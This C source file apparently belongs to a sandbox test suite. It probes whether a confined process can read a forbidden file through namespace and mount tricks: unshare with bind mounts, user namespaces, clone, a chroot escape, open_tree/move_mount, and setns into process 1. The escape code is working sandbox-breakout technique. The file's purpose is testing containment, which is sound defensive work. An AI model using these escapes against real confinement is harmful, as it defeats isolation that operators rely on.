// SPDX-License-Identifier: Apache-2.0
// namespace-ways MODE WAY ALLOWED SECRET: tries to change what names mean, to see SECRET under another one.
//   mount       a mount namespace of its own, SECRET bound over ALLOWED
//   user        a user namespace first, for whom may not mount
//   clone       the same with clone
//   chroot      the classic way out of a root directory
//   new-mount   the newer calls: open_tree, move_mount
//   join        setns into the namespaces of process 1
#include "attack.h"
#include <sys/mount.h>

static int cloned(void *unused) {
  (void)unused;
  return 0;
}

static void in_own_namespace(int flags, const char *allowed, const char *secret) {
  note("unshare", unshare(flags));
  note("private", mount("none", "/", 0, MS_REC | MS_PRIVATE, 0));
  note("bind", mount(secret, allowed, 0, MS_BIND, 0));
  show(open(allowed, O_RDONLY));
}

static void out_of_root(const char *secret) {
  int here = open(".", O_PATH | O_DIRECTORY);
  note("chroot", chroot("jail"));
  note("fchdir", fchdir(here));
  for (int i = 0; i < 64 && chdir("..") == 0; i++);
  note("chroot out", chroot("."));
  show(open(secret, O_RDONLY));
}

static void with_new_calls(const char *allowed, const char *secret) {
  long tree = syscall(SYS_open_tree, AT_FDCWD, secret, 1 /* OPEN_TREE_CLONE */);
  note("open_tree", tree);
  note("move_mount", syscall(SYS_move_mount, tree, "", AT_FDCWD, allowed, 4 /* F_EMPTY_PATH */));
  show(open(allowed, O_RDONLY));
}

int main(int argc, char **argv) {
  if (argc < 5) return 2;
  const char *way = argv[2], *allowed = argv[3], *secret = argv[4];
  static char stack[65536];
  read_once(allowed);
  if (!attacking(argc, argv)) return 0;
  if (strcmp(way, "mount") == 0) in_own_namespace(CLONE_NEWNS, allowed, secret);
  if (strcmp(way, "user") == 0) in_own_namespace(CLONE_NEWUSER | CLONE_NEWNS, allowed, secret);
  if (strcmp(way, "chroot") == 0) out_of_root(secret);
  if (strcmp(way, "new-mount") == 0) with_new_calls(allowed, secret);
  if (strcmp(way, "clone") == 0) {
    pid_t pid = clone(cloned, stack + sizeof stack, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0);
    note("clone", pid);
    if (pid > 0) harm("a process in namespaces of its own");
  }
  if (strcmp(way, "join") == 0) {
    int fd = (int)syscall(SYS_pidfd_open, 1, 0);
    long result = setns(fd, CLONE_NEWNS);
    note("setns", result);
    if (result == 0) harm("in the namespaces of another process");
  }
  return 0;
}
